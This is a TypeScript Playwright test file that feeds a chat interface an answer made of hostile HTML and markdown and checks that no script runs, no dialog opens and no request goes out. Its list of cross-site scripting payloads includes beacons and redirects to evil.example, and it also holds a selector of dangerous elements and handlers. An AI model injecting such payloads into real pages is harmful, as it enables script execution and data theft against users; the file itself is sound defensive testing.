import type { Page } from "playwright-core";
import { beforeEach, expect, test } from "vitest";
import type { Visitor } from "../src/browser.ts";
import { answers, ask, button, createDialog, signIn } from "../src/screens.ts";
import { describePlatform } from "./support/describe-platform.ts";

/** Each would do something in a page that took an answer for more than text. */
const attacks = [
  "<script>alert('script')</script>",
  "<img src=x onerror=\"alert('onerror')\">",
  "<svg onload=\"alert('svg')\"><script>alert('svg script')</script></svg>",
  "<iframe src=\"javascript:alert('frame')\" srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
  "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/a.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
  "<form action=https://evil.example/><button autofocus onfocus=alert('focus')>go</button></form>",
  "<!-- <img src=x onerror=alert('comment')> --><a href=\"javascript:alert('html link')\">html</a>",
  "[script link](javascript:alert('link')) [spaced](java\nscript:alert(1)) [entity](javascript&colon;alert(1))",
  "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox)",
  "![picture](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>)",
  "![handler](https://evil.example/x.png\" onerror=\"alert('attribute'))",
  "<https://evil.example/auto> https://evil.example/bare [honest](https://example.com/page)",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert('cell')> | [x](javascript:alert('cell')) |",
  "```html\n<script>alert('code')</script>\n<img src=x onerror=alert('code')>\n```",
  "```\"><img src=x onerror=alert('language')>\nx\n```",
  "&lt;script&gt;alert('entities')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

const endOfHostility = "Nothing happened.";

describePlatform("an answer full of hostility", (platform) => {
  let visitor: Visitor;
  let page: Page;
  let windows: string[];

  beforeEach(async ({ task }) => {
    visitor = await platform().visit();
    page = await visitor.open();
    windows = [];
    page.on("dialog", (dialog) => {
      windows.push(dialog.message());
      void dialog.dismiss();
    });
    await signIn(page, `Ida ${task.name}`);
    await createDialog(page, "Hostile");
    await ask(page, "Do your worst");
  });

  /** What stands in answers, by the names of elements and attributes. */
  const findHostile = (): Promise<string[]> =>
    answers(page).evaluateAll((all) => {
      const dangerous = "script, iframe, object, embed, style, link, meta, base, form, input:not([disabled]), img";
      const byName = all.flatMap((answer) => [...answer.querySelectorAll(dangerous)]);
      const byHandler = all
        .flatMap((answer) => [...answer.querySelectorAll("*")])
        .filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith("on") || name === "srcdoc"));
      return [...byName, ...byHandler].map((element) => element.outerHTML);
    });

  async function expectHarmless(): Promise<void> {
    expect(await findHostile()).toEqual([]);
    expect(windows).toEqual([]);
    expect(visitor.foreignRequests).toEqual([]);
    expect(new URL(page.url()).pathname).toMatch(/^\/chat\//);
  }

  test("is text like any other, in pieces and as a whole", async () => {
    // The link is one when the answer is not shown plain any more, but set.
    const setAnswer = () => answers(page).filter({ hasText: endOfHostility }).getByRole("link", { name: "honest" });
    const run = await platform().worker.claim();
    const text = [...attacks, endOfHostility].join("\n\n");
    // Cut at odd places: in the middle of tags, links and entities.
    for (const piece of text.match(/[^]{1,7}/g) ?? []) await run.append(piece);
    await setAnswer().waitFor();
    await expectHarmless();
    await run.complete();
    await button(page, "Send").waitFor();
    await expectHarmless();
    await page.reload();
    await setAnswer().waitFor();
    await expectHarmless();
    expect(await answers(page).innerText()).toContain("<script>alert('script')</script>");
    const links = await answers(page)
      .getByRole("link")
      .evaluateAll((all) =>
        all.map((link) => ({ href: link.getAttribute("href"), rel: link.getAttribute("rel")?.split(" ") })),
      );
    expect(links.map(({ href }) => href)).toContain("https://example.com/page");
    for (const { href, rel } of links) {
      expect(href).toMatch(/^https:\/\//);
      expect(rel).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
    }
  });

  // As long as an answer may be. What a parser makes of them takes minutes, or all of its stack.
  test.each(["[", "a*", "> ", "1. "])("cannot hold the page up by repeating %j", async (unit) => {
    const run = await platform().worker.claim();
    const text = unit.repeat(Math.floor(64_000 / unit.length));
    for (const piece of text.match(/[^]{1,8000}/g) ?? []) await run.append(piece);
    await run.append(`\n\n${endOfHostility}`);
    await answers(page).getByText(endOfHostility).waitFor();
    await run.complete();
    await button(page, "Send").waitFor();
    await expectHarmless();
    await ask(page, "Still there?");
    await (await platform().worker.claim()).complete("Yes, still here.");
    await answers(page).getByText("Yes, still here.").waitFor();
    await expectHarmless();
  });
});
